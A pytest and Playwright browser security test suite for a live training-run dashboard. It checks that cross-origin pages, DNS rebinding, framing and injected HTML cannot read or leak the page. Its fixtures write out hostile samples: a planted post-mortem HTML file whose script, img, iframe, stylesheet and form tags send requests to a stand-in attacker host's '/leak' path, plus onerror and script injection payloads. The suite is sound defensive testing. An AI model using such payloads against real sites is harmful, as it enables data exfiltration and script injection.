"""What pages of other sites, and hostile text in a run, can do to a live page in a real browser."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Browser, Error
from tests.browser.conftest import EVIL, Tab
from tests.report.dashboard.live_page import get, root, served
from tests.report.runs import row, write

from sealegs.report.dashboard.server import LiveServer

pytestmark = pytest.mark.xdist_group("browser")  # one browser serves all

TRIES = """async ([http, ws]) => {
  const told = {}
  const settled = promise => promise.then(answer => `${answer.type} ${answer.status}`, () => "refused")
  told.fetch = await settled(fetch(http))
  told.blind = await settled(fetch(http, {mode: "no-cors"}))
  told.with_cookies = await settled(fetch(http, {credentials: "include"}))
  const tagged = (tag, address) => new Promise(done => {
    const element = document.createElement(tag)
    element.onload = () => done("loaded")
    element.onerror = () => done("refused")
    element.src = address
    document.body.append(element)
  })
  told.script = await tagged("script", http + "static/js/bokeh.min.js")
  told.autoload = await tagged("script", http + "autoload.js?bokeh-autoload-element=x")
  told.websocket = await new Promise(done => {
    const socket = new WebSocket(ws, ["bokeh", "x.y"])
    socket.onopen = () => done("open")
    socket.onerror = () => done("refused")
  })
  return told
}"""
"""How a page of another site would try to read ours."""


class Listener:
    """A server of another site: it has an empty page, and remembers what it is asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                listener.asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<title>another site</title>")

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.01})
        self.thread.start()

    @property
    def address(self) -> str:
        return f"http://{EVIL}:{self.server.server_port}/"

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


@pytest.fixture(scope="module")
def site() -> Iterator[Listener]:
    site = Listener()
    yield site
    site.stop()


@pytest.fixture(scope="module")
def page(site: Listener, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    folder = write(
        tmp_path_factory.mktemp("runs") / "night",
        ({name: row(step)[name] for name in ("step", "loss")} for step in range(30)),
        [{"step": 20, "time": 1.7e9, "kind": "alarm", "incident": 1, "text": "step 20  ALARM"}],
    )
    (folder / "incidents" / "1").mkdir(parents=True)
    (folder / "incidents" / "1" / "postmortem.html").write_text(
        f"""<title>plain</title><p id=text>what happened</p>
        <script>document.title = "changed"; fetch("{site.address}leak")</script>
        <img src="{site.address}leak" onerror="document.title = 'changed'">
        <link rel=stylesheet href="{site.address}leak"><iframe src="{site.address}leak"></iframe>
        <form action="{site.address}leak"><button>send</button></form>
        <a href="{site.address}left">leave</a>"""
    )
    with served(folder) as page:
        yield page


def tries(tab: Tab, page: LiveServer, host: str) -> dict[str, str]:
    place = f"{host}:{page.port}{root(page)}"
    told: dict[str, str] = tab.page.evaluate(TRIES, [f"http://{place}", f"ws://{place}ws"])
    return told


def test_a_page_of_another_site_cannot_read_a_live_page_although_it_knows_the_link(
    tab: Tab, page: LiveServer, site: Listener
) -> None:
    tab.page.goto(site.address)
    assert set(tries(tab, page, "127.0.0.1").values()) == {"refused"}


def test_a_name_that_was_made_to_lead_here_opens_nothing(browser: Browser, page: LiveServer) -> None:
    """DNS rebinding: to the browser all is one site, whose own page would have no policy."""
    context = browser.new_context(bypass_csp=True)
    tab = Tab(context.new_page())
    answer = tab.page.goto(f"http://{EVIL}:{page.port}{root(page)}")
    assert answer is not None
    assert answer.status == 403
    told = tries(tab, page, EVIL)
    context.close()
    assert {told.pop(name) for name in ("fetch", "blind", "with_cookies")} == {"basic 403"}
    assert told == {"script": "refused", "autoload": "refused", "websocket": "refused"}


def test_a_live_page_is_not_shown_in_a_frame(tab: Tab, page: LiveServer, site: Listener) -> None:
    tab.page.goto(site.address)
    tab.page.evaluate("document.body.append(document.createElement('iframe'))")
    with pytest.raises(Error, match="ERR_BLOCKED_BY_RESPONSE"):
        tab.page.frames[1].goto(page.link)


def test_text_that_turns_out_to_be_a_script_does_not_run_and_tells_nobody(
    tab: Tab, page: LiveServer, site: Listener
) -> None:
    tab.open(page.link)
    assert tab.errors == []
    before = list(site.asked)
    blocked = tab.page.evaluate(
        """async address => {
          const blocked = []
          document.addEventListener("securitypolicyviolation", event => blocked.push(event.effectiveDirective))
          const hostile = `<img src="data:," onerror="window.ran = 1"><img src="${address}leak">`
          document.querySelector("header").insertAdjacentHTML("beforeend", hostile)
          const script = document.createElement("script")
          script.textContent = "window.ran = 1"
          document.body.append(script)
          await fetch(address + "leak").catch(() => null)
          try { new WebSocket(address.replace("http", "ws")) } catch (error) { }
          await new Promise(done => setTimeout(done, 100))
          return [...new Set(blocked)].sort()
        }""",
        site.address,
    )
    assert blocked == ["connect-src", "img-src", "script-src-attr", "script-src-elem"]
    assert tab.page.evaluate("window.ran") is None
    assert site.asked == before


def test_a_hostile_post_mortem_is_only_text_and_does_not_give_the_link_away(
    tab: Tab, page: LiveServer, site: Listener
) -> None:
    tab.open(page.link)
    tab.page.get_by_role("link", name="post-mortem").click()
    tab.page.wait_for_url("**/incidents/1/postmortem.html")
    assert tab.page.locator("#text").inner_text() == "what happened"
    assert tab.page.title() == "plain"
    tab.page.get_by_role("button", name="send").click()
    with tab.page.expect_request(f"{site.address}left") as left:
        tab.page.get_by_role("link", name="leave").click()
    tab.page.wait_for_url(f"{site.address}left")
    assert "referer" not in left.value.all_headers()
    assert "/leak" not in site.asked
    assert get(page, "").status == 200
